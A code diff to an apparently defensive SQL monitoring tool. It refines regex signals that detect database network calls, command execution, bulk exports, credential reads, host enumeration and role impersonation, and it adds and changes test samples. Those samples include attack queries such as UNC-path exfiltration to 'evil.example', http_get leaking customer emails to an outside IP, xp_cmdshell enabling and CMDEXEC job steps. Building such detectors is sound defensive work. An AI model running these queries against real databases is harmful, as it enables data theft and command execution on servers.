@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import re
 
-from daswatch.sql.signal_table.model import ALL, START, Pattern, Signal
+from daswatch.sql.signal_table.model import ALL, Pattern, Signal
 
 _PG = ("postgresql",)
 _MYSQL = ("mysql",)
@@ -16,7 +16,7 @@ _CALLED = rf"(?<!function )(?<!procedure ){_QUALIFIED}"  # and not created, gran
 _EXECUTED = r"(?:\A|;|\b(?:exec(?:ute)?|call|begin|then|else) ?)(?:@\w{1,128}=)?(?:[\w$#]{0,128}\.){0,3}"
 _READ_FROM = r"(?:\bfrom|\bjoin|,|\bcopy|(?:\A|;|\()table) ?(?:only )?"
 _COPY = r"(?:\Acopy\b[^;]{1,1900}?|(?:;|\b(?:begin|then|else|loop) ?)copy\b[^;]{1,400}?)"
-_UNC = r"'\\\\"  # a literal that begins with two backslashes
+_UNC = r"'\\\\|\bchar\(92\)\s{0,9}\+\s{0,9}char\(92\)|\b0x5c005c|\b0x5c5c"  # two backslashes at the beginning
 _SOME = r"[\w$#]{1,128}"
 
 
@@ -58,10 +58,9 @@ _UNTRUSTED = _words("plperlu plpythonu plpython2u plpython3u pltclu plsh c")
 # Aggregates: from where rows are read, as long as nothing chooses, groups or limits them. Derived tables do not count,
 # unless they are a plain table themselves: programming interfaces read pages so.
 _UP_TO_FROM = r"(?:(?!\bfrom\b)[^;]){0,400}+\bfrom ?"
-_NO_CHOICE = (
-    r"(?:(?!\b(?:where|group|limit|having|lateral|fetch|offset|order|union|for|cross apply|select)\b)[^();?$@]){1,300}+"
-)
-_ALWAYS_TRUE = r"(?:where (?:true|[?01](?:=[?01])?|[\w.]{1,130}(?:>=?[?01]|<>[?01]| is not null)) ?)?"
+_CHOICE = r"\b(?:where|group|limit|having|lateral|fetch|offset|order|union|for|into|cross apply|select)\b"
+_NO_CHOICE = rf"(?:(?!{_CHOICE})[^();?$@]){{1,300}}+"
+_ALWAYS_TRUE = r"(?:where (?:true|[?01](?:=[?01])?|[\w.]{1,130}(?:>=?[01]|<>[01]| is not null)) ?)?"
 _REST = r"(?:order by [\w.,]{1,130} ?(?:desc ?|asc ?)?)?"
 _ALL_ROWS = (
     rf"{_UP_TO_FROM}(?:{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}(?=$|[);]|\bunion\b)"
@@ -127,21 +126,18 @@ _SQLSERVER_PROCEDURES = _words(
 
 _NETWORK_CALL = Signal(
     "network-call",
-    "The database contacts another host or service, is given a link to one, or is allowed to.",
+    "A query makes the database contact another host, or a link or a network permission for that is created.",
     (
         _calls(
             _PG,
-            *_words("dblink dblink_connect dblink_connect_u dblink_exec dblink_open dblink_send_query"),
-            *_words("http_get http_post http_put http_patch http_delete http_head create_lambda_function_arn"),
+            *_words("http_get http_post http_put http_patch http_delete http_head"),
         ),
-        Pattern(_PG, ("aws_lambda",), r"(?<!function )(?<![\w$.])aws_lambda\.invoke\("),
-        _calls(_PG, "invoke", raw=r"arn:aws[a-z-]{0,20}:lambda:"),
-        Pattern(
+        # Without a host it is the server itself: so transactions are made that stand alone.
+        _calls(
             _PG,
-            ("aws_lambda",),
-            r"\bset (?:local |session )?search_path(?:=| to )[^;]{0,300}\baws_lambda\b",
+            *_words("dblink dblink_connect dblink_connect_u dblink_exec dblink_open dblink_send_query"),
+            raw=r"\A(?![\s\S]{0,1900}\bdbname\b)|\bhost|://",
         ),
-        Pattern(_PG, ("set_config",), r"\bset_config\(", r"'search_path'\s{0,9},[^;]{0,300}\baws_lambda\b"),
         Pattern(
             _PG,
             ("server",),
@@ -149,16 +145,7 @@ _NETWORK_CALL = Signal(
             r"|\balter server [^;]{1,200}options\("
             r"|\bimport foreign schema\b|\bcreate foreign table\b|\b(?:create|alter) user mapping\b",
         ),
-        Pattern(_PG, ("subscription",), r"\b(?:create|alter) subscription [^;]{1,200}\bconnection ?[?$]"),
-        Pattern(
-            _PG,
-            _words("dblink postgres_fdw aws_lambda http pg_net tds_fdw mysql_fdw oracle_fdw"),
-            r"\bcreate extension (?:if not exists )?"
-            r"(?:dblink|postgres_fdw|aws_lambda|http|pg_net|tds_fdw|mysql_fdw|oracle_fdw)\b",
-        ),
         Pattern(_PG, ("primary_conninfo",), r"\balter system set primary_conninfo\b"),
-        _calls(_MYSQL, "lambda_sync", "lambda_async"),
-        Pattern(_MYSQL, ("lambda_async",), r"\bcall mysql\.lambda_async\b"),
         Pattern(_MYSQL, ("federated",), r"\bengine(?:=| )federated\b"),
         Pattern(_MYSQL, ("engine",), r"\bengine(?:=| )\?", r"\bengine\s{0,9}=?\s{0,9}['\"]federated\b"),
         Pattern(
@@ -166,23 +153,6 @@ _NETWORK_CALL = Signal(
             ("server",),
             r"\bcreate server [^;]{1,200}foreign data wrapper\b|\balter server [^;]{1,200}options\(",
         ),
-        Pattern(
-            _MYSQL,
-            _words(
-                "rds_set_external_source rds_set_external_source_with_auto_position rds_set_external_source_with_delay"
-                " rds_set_external_source_for_channel rds_set_external_source_with_auto_position_for_channel"
-                " rds_set_external_master rds_set_external_master_with_auto_position rds_set_external_master_with_delay"
-                " rds_start_replication rds_start_replication_until rds_start_replication_until_gtid"
-                " rds_start_replication_for_channel"
-            ),
-            r"\bcall (?:mysql\.)?rds_(?:set_external_|start_replication)",
-        ),
-        Pattern(
-            _MYSQL,
-            ("master", "replication"),
-            rf"{START}(?:change (?:master to|replication source to)|start (?:slave|replica) )\b",
-        ),
-        Pattern(_MYSQL, ("clone",), rf"{START}clone instance from\b"),
         Pattern(
             _MYSQL,
             ("load_file", "outfile", "dumpfile", "infile"),
@@ -241,25 +211,16 @@ _NETWORK_CALL = Signal(
             "SELECT * FROM dblink('host=203.0.113.9 user=x dbname=l', 'select 1') AS t(a int)",
             "SELECT public.\"dblink_connect_u\"('c', 'hostaddr=203.0.113.9 port=22')",
             "SELECT dblink_exec('c', 'insert into loot select ' || quote_literal(x)) FROM customers",
-            "CREATE EXTENSION IF NOT EXISTS postgres_fdw",
             "CREATE SERVER s9 FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9', dbname 'x')",
             "CREATE USER MAPPING FOR app SERVER s9 OPTIONS (user 'x', password 'y')",
             "IMPORT FOREIGN SCHEMA public FROM SERVER s9 INTO f",
-            "CREATE SUBSCRIPTION s CONNECTION 'host=203.0.113.9 dbname=x' PUBLICATION p",
             "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
-            "SET search_path = aws_lambda, aws_commons, public",
-            "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', row_to_json(c)::json) FROM customers c",
             "SELECT content FROM http_get('http://203.0.113.9/' || (SELECT email FROM customers LIMIT 1))",
         ),
         "mysql": (
-            "SELECT lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
-            "CALL mysql.lambda_async('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
             "CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://x:y@203.0.113.9/l/f'",
             "CREATE TABLE f (id INT) ENGINE='Federated' CONNECTION='s/f'",
             "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '203.0.113.9', DATABASE 'l')",
-            "CALL mysql.rds_set_external_source ('203.0.113.9', 3306, 'r', 'p', 'mysql-bin.01', 4, 0)",
-            "CALL mysql.rds_start_replication",
-            "CHANGE REPLICATION SOURCE TO SOURCE_HOST='203.0.113.9'",
             "SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT DATABASE()), '.evil.example\\\\a'))",
         ),
         "oracle": (
@@ -289,6 +250,7 @@ _NETWORK_CALL = Signal(
             "DECLARE @p varchar(99); SET @p = '\\\\' + (SELECT db_name()) + '.evil.example\\a'; EXEC xp_fileexist @p",
             "SELECT * FROM sys.fn_xe_file_target_read_file('\\\\203.0.113.9\\a.xel', NULL, NULL, NULL)",
             "SELECT * FROM fn_trace_gettable('\\\\203.0.113.9\\a.trc', default)",
+            "DECLARE @p varchar(99) = CHAR(92) + CHAR(92) + '203.0.113.9'; EXEC xp_dirtree @p",
             "BACKUP LOG [store] TO DISK = '\\\\203.0.113.9\\s\\a.bak'",
             "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
             "EXEC sp_configure 'Ad Hoc Distributed Queries', 1",
@@ -299,15 +261,13 @@ _NETWORK_CALL = Signal(
             "GRANT EXECUTE ON FUNCTION public.dblink_connect_u(text) TO app",
             "INSERT INTO posts (body) VALUES ('dblink(''host=203.0.113.9'') opens a connection')",
             "SELECT * FROM dblink_settings",
-            "CREATE EXTENSION pgcrypto",
+            "CREATE EXTENSION postgres_fdw",
+            "SELECT dblink_connect('own', 'dbname=' || current_database())",
             "CREATE SERVER logs FOREIGN DATA WRAPPER log_fdw",
-            "SELECT invoke(4)",
-            "SET search_path = app, public",
         ),
         "mysql": (
             "GRANT INVOKE LAMBDA ON *.* TO 'app'@'%'",
             "CREATE TABLE t (id INT) ENGINE=InnoDB",
-            "SELECT * FROM lambda_sync",
             "SHOW REPLICA STATUS",
             "SELECT load_file_id FROM imports WHERE path = 'C:\\\\a'",
         ),
@@ -495,7 +455,7 @@ _PROGRAM_EXECUTION = Signal(
             _PG,
             ("system",),
             r"\balter system set (?:archive_command|restore_command|archive_cleanup_command|recovery_end_command"
-            r"|ssl_passphrase_command|archive_library|\w{0,9}_?preload_libraries|dynamic_library_path|jit_provider)\b",
+            r"|ssl_passphrase_command|archive_library|jit_provider)\b",
         ),
         Pattern(_PG, _UNTRUSTED, rf"(?:\A|;)do\b[^;]{{0,1900}}\blanguage {_any(*_UNTRUSTED)}\b"),
         _calls(_PG, "lo_from_bytea", "lo_put", "lowrite", raw=r"7f454c46"),
@@ -507,6 +467,7 @@ _PROGRAM_EXECUTION = Signal(
             r"\bdbms_scheduler\.(?:create_job|create_program|create_credential|set_attribute|create_file_watcher)",
             r"'(?:executable|external_script|backup_script|sql_script)'",
         ),
+        Pattern(_ORACLE, ("job_type", "program_type"), r"\b(?:job|program)_type=>\?\|\|\?"),
         Pattern(
             _ORACLE, ("dbms_scheduler", "dbms_credential"), r"\b(?:dbms_scheduler|dbms_credential)\.create_credential\b"
         ),
@@ -537,6 +498,7 @@ _PROGRAM_EXECUTION = Signal(
             r"\b(?:xp_cmdshell|sp_oa\w++|sp_execute_external_script)\b",
         ),
         Pattern(_SQLSERVER, ("dbcc",), r"\bdbcc addextendedproc\b"),
+        Pattern(_SQLSERVER, ("subsystem",), r"@subsystem=@"),
         _procedures("sp_add_jobstep", "sp_update_jobstep", raw=r"'(?:cmdexec|powershell|activescripting|ssis)'"),
         _procedures(
             "sp_configure",
@@ -551,7 +513,9 @@ _PROGRAM_EXECUTION = Signal(
             "copy (select 1) to/**/program $x$id$x$",
             "SELECT * FROM aws_lambda.invoke($1, $2::json, 'Event')",
             "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
+            "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
             "SET search_path TO aws_lambda",
+            "SET search_path = aws_lambda, aws_commons, public",
             "ALTER SYSTEM SET archive_command = 'sh /tmp/a'",
             "DO LANGUAGE plpython3u 'import os'",
             "SELECT lo_from_bytea(43213, decode('7f454c4602010100', 'hex'))",
@@ -565,6 +529,7 @@ _PROGRAM_EXECUTION = Signal(
         "oracle": (
             "BEGIN DBMS_SCHEDULER.CREATE_PROGRAM(program_name=>'P', program_type=>'EXECUTABLE',"
             " program_action=>'/bin/sh'); END;",
+            "BEGIN DBMS_SCHEDULER.CREATE_PROGRAM('P', program_type => 'EXEC' || 'UTABLE', program_action => 'i'); END;",
             "BEGIN DBMS_SCHEDULER.CREATE_JOB('J', job_type => 'external_script', job_action => 'id'); END;",
             "SELECT DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper', 'main', '/bin/sh') FROM dual",
             "SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh') FROM dual",
@@ -580,6 +545,7 @@ _PROGRAM_EXECUTION = Signal(
             "DECLARE @o INT EXEC sp_oacreate 'wscript.shell', @o OUT",
             "EXECUTE sp_execute_external_script @language=N'Python', @script=N'import os'",
             "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @step_name=N'1', @subsystem=N'CMDEXEC', @command=N'whoami'",
+            "DECLARE @s sysname = N'Cmd' + N'Exec'; EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @subsystem=@s",
             "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
         ),
     },
@@ -590,6 +556,8 @@ _PROGRAM_EXECUTION = Signal(
             "GRANT EXECUTE ON FUNCTION aws_lambda.invoke(text, json) TO app",
             "INSERT INTO tickets (body) VALUES ('COPY t FROM PROGRAM ''id'' is CVE-2019-9193')",
             "DO $$ BEGIN PERFORM 1; END $$ LANGUAGE plpgsql",
+            "SELECT invoke(4)",
+            "SET search_path = app, public",
         ),
         "mysql": (
             "GRANT AWS_LAMBDA_ACCESS TO 'app'@'%'",
@@ -611,9 +579,30 @@ _PROGRAM_EXECUTION = Signal(
     },
 )
 
+_ORACLE_EXPORTS = (
+    # Data Pump imports with the same package.
+    Pattern(
+        _ORACLE,
+        ("dbms_datapump",),
+        r"\bdbms_datapump\.open\(",
+        r"\A(?![\s\S]{0,1900}'(?:import|sql_file)')(?!(?:(?!open\b)[\s\S]){0,1900}open\s{0,9}\([\w\s=>]{0,30}:)",
+    ),
+    Pattern(_ORACLE, ("rdsadmin_s3_tasks",), r"\brdsadmin_s3_tasks\.upload_to_s3\b"),
+    Pattern(_ORACLE, ("rdsadmin_rman_util",), r"\brdsadmin_rman_util\.backup_"),
+    Pattern(_ORACLE, ("dbms_cloud",), r"\bdbms_cloud\.(?:export_data|put_object|move_object|copy_object)\b"),
+    Pattern(_ORACLE, ("oracle_datapump",), r"\btype oracle_datapump\b[^;]{0,1500}\bas select\b"),
+)
+_BACKUPS = (
+    _procedures("rds_backup_database", "rds_upload_to_s3", "sp_makewebtask"),
+    Pattern(
+        _SQLSERVER,
+        ("backup",),
+        r"\bbackup (?:database|log) [\w@?$#]{1,128} ?[^;]{0,400}?\bto (?:disk|url|tape|virtual_device|@?\w)",
+    ),
+)
 _EXPORT = Signal(
     "export",
-    "Rows are unloaded to a file, to S3, to the client by a copy command, by mail, or into a backup.",
+    "Rows are unloaded to a file, to S3, to the client by a copy command, or into a backup.",
     (
         _calls(_PG, "query_export_to_s3"),
         Pattern(_PG, ("stdout", "stdin"), rf"{_COPY}\bto std(?:out|in)\b"),
@@ -624,24 +613,8 @@ _EXPORT = Signal(
             r"(?=$|[;(]| ?(?:with|csv|binary|delimiters?|null|header|encoding|quote|escape|force|using|end)\b)",
         ),
         Pattern(_MYSQL, ("outfile",), r"\binto outfile\b"),
-        # Data Pump imports with the same package.
-        Pattern(
-            _ORACLE,
-            ("dbms_datapump",),
-            r"\bdbms_datapump\.open\(",
-            r"\A(?![\s\S]{0,1900}'(?:import|sql_file)')(?!(?:(?!open\b)[\s\S]){0,1900}open\s{0,9}\([\w\s=>]{0,30}:)",
-        ),
-        Pattern(_ORACLE, ("rdsadmin_s3_tasks",), r"\brdsadmin_s3_tasks\.upload_to_s3\b"),
-        Pattern(_ORACLE, ("rdsadmin_rman_util",), r"\brdsadmin_rman_util\.backup_"),
-        Pattern(_ORACLE, ("dbms_cloud",), r"\bdbms_cloud\.(?:export_data|put_object|move_object|copy_object)\b"),
-        Pattern(_ORACLE, ("oracle_datapump",), r"\btype oracle_datapump\b[^;]{0,1500}\bas select\b"),
-        _procedures("rds_backup_database", "rds_upload_to_s3", "sp_makewebtask"),
-        _procedures("sp_send_dbmail", raw=r"@(?:query|file_attachments)\s{0,9}="),
-        Pattern(
-            _SQLSERVER,
-            ("backup",),
-            r"\bbackup (?:database|log) [\w@?$#]{1,128} ?[^;]{0,400}?\bto (?:disk|url|tape|virtual_device|@?\w)",
-        ),
+        *_ORACLE_EXPORTS,
+        *_BACKUPS,
         Pattern(
             _SQLSERVER,
             _words("openrowset openquery opendatasource"),
@@ -681,7 +654,6 @@ _EXPORT = Signal(
             "BACKUP DATABASE [store] TO URL = 'https://203.0.113.9/s.bak'",
             "INSERT INTO OPENROWSET('SQLNCLI', 'Server=203.0.113.9;Uid=sa', 'select * from l') SELECT * FROM dbo.c",
             "INSERT INTO X9.loot.dbo.c SELECT Email, Phone FROM dbo.Customers",
-            "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
         ),
     },
     near_misses={
@@ -700,6 +672,77 @@ _EXPORT = Signal(
             "exec msdb.dbo.rds_task_status @db_name='store'",
             "INSERT INTO sales.dbo.c SELECT * FROM dbo.d",
             "SELECT backup_finish_date FROM msdb.dbo.backupset",
+        ),
+    },
+)
+
+_TO_CLIENT_OR_FILE = r"to (?:std(?:out|in)\b|program ?[?$]|[?$])"
+_WHOLE_TABLE_EXPORT = Signal(
+    "whole-table-export",
+    "Whole tables or databases are unloaded: nothing chooses, groups or limits the rows.",
+    (
+        Pattern(
+            _PG,
+            ("copy",),
+            rf"\Acopy (?:only )?[\w$.]{{1,130}} ?(?:\([\w$,]{{0,1900}}\))?{_TO_CLIENT_OR_FILE}"
+            rf"|\Acopy\((?:table [\w$.]{{1,130}}\)"
+            rf"|select(?![^;]{{0,400}}\b(?:count|sum|min|max|avg)\(){_ALL_ROWS}[^;]{{0,99}}?\)){_TO_CLIENT_OR_FILE}",
+        ),
+        _calls(_PG, "query_export_to_s3", raw=r"\A(?![\s\S]{0,1900}\b(?:where|limit)\b)"),
+        Pattern(
+            _MYSQL,
+            ("outfile",),
+            rf"\A(?:select\b{_UP_TO_FROM}{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}into outfile\b"
+            rf"|table [\w$.]{{1,130}} into outfile\b"
+            rf"|select[^;]{{1,400}}?\binto outfile\b[^;]{{0,300}}?\bfrom {_NO_CHOICE}{_ALWAYS_TRUE}{_REST}$)",
+        ),
+        *_ORACLE_EXPORTS,
+        *_BACKUPS,
+        Pattern(
+            _SQLSERVER,
+            _words("openrowset openquery opendatasource insert"),
+            rf"\binsert (?:into )?(?:openrowset\(|openquery\(|opendatasource\("
+            rf"|{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.)[^;]{{1,400}}?select\b{_ALL_ROWS}",
+        ),
+    ),
+    samples={
+        "postgresql": (
+            "COPY customers TO STDOUT",
+            "COPY public.customers (id, a) TO stdout;",
+            "COPY (SELECT * FROM customers WHERE true) TO STDOUT WITH CSV",
+            "COPY (TABLE customers) TO '/tmp/c'",
+            "SELECT aws_s3.query_export_to_s3('select * from customers', 'b', 'c.csv', 'eu-west-1')",
+        ),
+        "mysql": (
+            "SELECT * FROM customers INTO OUTFILE S3 's3://b/c' FORMAT CSV HEADER",
+            "SELECT id, email FROM customers WHERE 1=1 INTO OUTFILE '/tmp/c'",
+            "SELECT * INTO OUTFILE S3 's3://b/c' FROM customers",
+        ),
+        "oracle": (
+            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN(operation => 'EXPORT', job_mode => 'TABLE'); END;",
+            "SELECT rdsadmin.rdsadmin_s3_tasks.upload_to_s3(p_bucket_name => 'b') AS TASK_ID FROM DUAL",
+        ),
+        "sqlserver": (
+            "exec msdb.dbo.rds_backup_database @source_db_name='store', @s3_arn_to_backup_to='arn:aws:s3:::b/s.bak'",
+            "INSERT INTO X9.loot.dbo.c SELECT Email, Phone FROM dbo.Customers",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "COPY (SELECT id, status FROM orders WHERE created > '2031-02-01') TO STDOUT WITH CSV HEADER",
+            "COPY (SELECT country, count(*) FROM customers GROUP BY country) TO STDOUT WITH CSV HEADER",
+            "COPY (SELECT * FROM orders LIMIT 100) TO STDOUT",
+            "COPY t FROM STDIN",
+            "SELECT aws_s3.query_export_to_s3('select * from orders where day = 4', 'b', 'c.csv', 'eu-west-1')",
+        ),
+        "mysql": (
+            "SELECT * FROM orders WHERE day = '2031-03-04' INTO OUTFILE S3 's3://b/c'",
+            "SELECT a INTO @b FROM t",
+        ),
+        "oracle": ("DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('IMPORT', 'SCHEMA'); END;", "SELECT id FROM t"),
+        "sqlserver": (
+            "INSERT INTO dwh.sales.dbo.orders SELECT Id FROM dbo.Orders WHERE Day = @p0",
+            "exec msdb.dbo.rds_task_status @db_name='store'",
         ),
     },
 )
@@ -1024,7 +1067,12 @@ _CREDENTIAL_READ = Signal(
     "Password hashes, stored passwords or keys of the engine are read, tried or exported.",
     (
         Pattern(_PG, ("pg_authid", "pg_shadow"), rf"{_READ_FROM}(?:pg_catalog\.)?(?:pg_authid|pg_shadow)\b"),
-        Pattern(_PG, ("umoptions", "subconninfo"), r"\b(?:umoptions|subconninfo)\b(?!=)"),
+        # Clients for administrators show mappings together with their server.
+        Pattern(
+            _PG,
+            ("umoptions", "subconninfo"),
+            r"\A(?!.{0,1900}\bpg_foreign_server\b).{0,1900}?\b(?:umoptions|subconninfo)\b(?!=)",
+        ),
         Pattern(
             _PG,
             _words("pg_user_mapping pg_user_mappings pg_subscription"),
@@ -1046,7 +1094,7 @@ _CREDENTIAL_READ = Signal(
             _words("password_history servers slave_master_info"),
             rf"{_READ_FROM}mysql\.(?:password_history|servers|slave_master_info)\b",
         ),
-        Pattern(_MYSQL, ("show",), r"(?:\A|;)show create user\b"),
+        Pattern(_MYSQL, ("show",), r"(?:\A|;)show create user (?!current_user)"),
         Pattern(
             _ORACLE, ("user$",), r"\b(?:password|spare4)\b[^;]{0,900}\bfrom [^;]{0,300}\buser\$|\*from (?:sys\.)?user\$"
         ),
@@ -1132,6 +1180,7 @@ _CREDENTIAL_READ = Signal(
         "postgresql": (
             "SELECT rolname, rolsuper, rolvaliduntil FROM pg_roles",
             "REVOKE SELECT ON TABLE pg_authid FROM app",
+            "SELECT u.umid, umoptions FROM pg_user_mappings u LEFT JOIN pg_foreign_server fs ON fs.oid = u.srvid",
             "SELECT id, password FROM users WHERE login = $1",
         ),
         "mysql": (
@@ -1159,7 +1208,12 @@ _HOST_ENUMERATION = Signal(
     "host-enumeration",
     "The host, its registry, its accounts or its network are explored.",
     (
-        _calls(_PG, "inet_server_addr", "inet_server_port", "pg_config"),
+        # Many programs report where they are connected to, in a query without a table.
+        Pattern(
+            _PG,
+            ("inet_server_addr", "inet_server_port"),
+            r"\A(?=.{0,1900}\b(?:from|where|union)\b).{0,1900}?\binet_server_(?:addr|port)\(",
+        ),
         Pattern(_PG, ("pg_hba_file_rules",), rf"{_READ_FROM}(?:pg_catalog\.)?pg_hba_file_rules\b"),
         Pattern(
             _PG,
@@ -1168,8 +1222,8 @@ _HOST_ENUMERATION = Signal(
         ),
         Pattern(
             _MYSQL,
-            _words("plugin_dir secure_file_priv datadir basedir version_compile_os version_compile_machine"),
-            r"@@(?:global\.|session\.)?(?:plugin_dir|secure_file_priv|datadir|basedir|version_compile_(?:os|machine))\b",
+            _words("plugin_dir secure_file_priv datadir basedir"),
+            r"@@(?:global\.|session\.)?(?:plugin_dir|secure_file_priv|datadir|basedir)\b",
         ),
         Pattern(
             _MYSQL,
@@ -1208,7 +1262,7 @@ _HOST_ENUMERATION = Signal(
     ),
     samples={
         "postgresql": (
-            "SELECT inet_server_addr(), inet_server_port()",
+            "SELECT a FROM t WHERE id = 4 UNION SELECT inet_server_addr()::text",
             "SELECT * FROM pg_hba_file_rules",
             "SHOW data_directory",
         ),
@@ -1231,9 +1285,13 @@ _HOST_ENUMERATION = Signal(
         ),
     },
     near_misses={
-        "postgresql": ("SELECT version()", "SELECT inet_client_addr()", "SHOW server_version"),
+        "postgresql": (
+            "SELECT current_database(), current_user, inet_server_addr(), inet_server_port()",
+            "SELECT inet_client_addr()",
+            "SHOW server_version",
+        ),
         "mysql": (
-            "SELECT @@version_comment LIMIT 1",
+            "SELECT DATABASE(), @@version, @@version_comment, @@version_compile_os",
             "SHOW VARIABLES LIKE 'version'",
             "SELECT @@session.transaction_isolation",
         ),
@@ -1250,13 +1308,20 @@ _IMPERSONATION = Signal(
     "impersonation",
     "A session takes on the rights of another account.",
     (
+        # Interfaces for web clients take a role for each transaction (SET LOCAL).
         Pattern(
             _PG,
             ("role", "authorization"),
-            r"(?:\A|;|\b(?:begin|then|else|loop) ?)set (?:local |session )?"
-            r"(?:role(?: to |=| )(?!none\b|default\b)|session authorization (?!default\b))",
+            r"(?:\A|;|\b(?:begin|then|else|loop) ?)set (?:session )?"
+            r"(?:role(?: to |=| )(?!none\b|default\b)|session authorization (?!default\b))"
+            r"|\bset local role(?: to |=| )(?:postgres|rds\w++|pg_\w++|\w{0,60}(?:super|admin)\w{0,60})\b",
         ),
-        Pattern(_PG, ("set_config",), r"\bset_config\(", r"set_config\s{0,9}\(\s{0,9}'(?:role|session_authorization)'"),
+        Pattern(
+            _PG,
+            ("set_config",),
+            r"\bset_config\(\?,(?:\?,|[^()]{1,60},false\))",
+            r"set_config\s{0,9}\(\s{0,9}'(?:role|session_authorization)'",
+        ),
         Pattern(_MYSQL, ("proxy",), r"\bgrant proxy on\b"),
         Pattern(_ORACLE, ("through",), r"\balter user\b[^;]{1,300}\bgrant connect through\b"),
         Pattern(
@@ -1271,7 +1336,8 @@ _IMPERSONATION = Signal(
     samples={
         "postgresql": (
             "SET ROLE store_owner",
-            "SET LOCAL ROLE TO 'admin'",
+            "BEGIN; SET SESSION ROLE 'admin'; SELECT 1",
+            "BEGIN; SET LOCAL ROLE rds_superuser; SELECT 1",
             "SET SESSION AUTHORIZATION postgres",
             "SELECT set_config('role', 'rds_superuser', false)",
         ),
@@ -1296,6 +1362,8 @@ _IMPERSONATION = Signal(
         "postgresql": (
             "SET ROLE NONE",
             "RESET ROLE",
+            "SET LOCAL ROLE anon",
+            "SELECT set_config('search_path', $1, true), set_config('role', $2, true)",
             "UPDATE users SET role = 'admin' WHERE id = 4",
             "SET search_path = app",
         ),
@@ -1316,6 +1384,7 @@ ACCESS: tuple[Signal, ...] = (
     _SERVER_FILE,
     _PROGRAM_EXECUTION,
     _EXPORT,
+    _WHOLE_TABLE_EXPORT,
     _IMPORT,
     _DUMP_QUERY,
     _HANDLER_READ,
